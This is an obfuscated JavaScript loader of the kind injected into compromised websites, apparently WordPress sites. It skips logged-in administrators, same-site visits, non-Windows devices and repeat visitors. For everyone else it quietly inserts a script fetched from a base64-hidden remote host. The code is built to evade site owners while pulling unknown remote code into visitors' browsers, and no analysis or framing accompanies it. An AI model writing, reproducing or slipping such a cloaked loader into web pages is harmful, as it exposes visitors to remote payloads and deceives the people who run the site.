;(function(w,n,y,s,j,x,k){
  w=window;n=navigator;s=document;
  if(!s.referrer)return;
  j=s.createElement("a");j.href=s.referrer;
  if(j.hostname===location.hostname||/Mac|Linux|Android|iPhone/.test(n.platform+n.userAgent))return;
  if(s.cookie.match(/(?:^|;)\s*wp-[\w-]+=/)||w.localStorage.getItem("utm_v"))return;
  w.localStorage.setItem("utm_v",(new Date).getTime());
  x=s.createElement("script");x.async=1;
  k=["Y2xvdWQ","tY29u","dGVudC","5leGFtcGxl"].join("");
  x.src="https://"+w.atob(k)+"/report?r="+w.btoa("dj0"+Math.random().toString(36).slice(2)+"&cid=313");
  s.head.insertBefore(x,s.head.firstChild);
})();
